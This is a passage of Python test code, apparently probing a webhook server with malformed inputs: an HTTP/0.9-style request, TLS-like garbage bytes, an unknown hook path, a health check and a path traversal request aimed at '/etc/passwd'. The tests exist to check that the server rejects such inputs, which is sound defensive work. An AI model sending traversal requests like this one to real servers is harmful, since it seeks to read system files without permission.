              Expect.PROTOCOL),
        Probe("HTTP/0.9 style", lambda: b"GET /hooks/sg\r\n\r\n", Expect.PROTOCOL),
        Probe("garbage", lambda: b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" * 50,
              Expect.PROTOCOL),
        Probe("unknown instance", lambda: http(p, "POST", "/hooks/nope", {}, b"{}"),
              Expect.PROTOCOL),
        Probe("path traversal", lambda: http(p, "GET", "/hooks/../../etc/passwd"), Expect.PROTOCOL),
        Probe("healthz from loopback still answers",
              lambda: http(p, "GET", "/healthz"), Expect.PROTOCOL,
              check=lambda r: None if r.status == 200 else f"/healthz answered {r.status}"),
    ]  # fmt: skip
